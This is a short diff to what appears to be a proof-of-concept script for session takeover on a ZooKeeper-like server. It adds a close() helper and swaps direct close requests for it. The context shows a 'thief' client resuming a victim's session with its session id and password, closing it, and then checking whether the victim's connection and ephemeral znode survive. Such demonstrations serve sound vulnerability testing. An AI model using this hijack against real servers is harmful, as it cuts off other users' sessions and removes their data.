@@ -67,6 +67,13 @@ class Client:
         assert xid == self.xid, f"an answer to another request: {xid}"
         return error, reply[16:]
 
+    def close(self):
+        """Closes the session. Some servers hang up before they answer."""
+        try:
+            self.request(CLOSE_SESSION)
+        except Closed:
+            pass
+
     def _send(self, body):
         try:
             self.socket.sendall(struct.pack(">i", len(body)) + body)
@@ -118,7 +125,7 @@ def demonstrate(arguments):
     thief = Client(arguments, arguments.attacker)
     if thief.open(session_id, password):
         print("attacker: resumed the victim's session, and closes it")
-        thief.request(CLOSE_SESSION)
+        thief.close()
     else:
         print("attacker: was told that the session has expired")
 
@@ -131,8 +138,8 @@ def demonstrate(arguments):
     print(f"victim:   its connection {'goes on' if victim_lives else 'is cut'}")
     print(f"victim:   its ephemeral znode is {'there' if there else 'gone'}")
     if victim_lives:
-        victim.request(CLOSE_SESSION)
-    observer.request(CLOSE_SESSION)
+        victim.close()
+    observer.close()
     return not victim_lives or not there
 
 
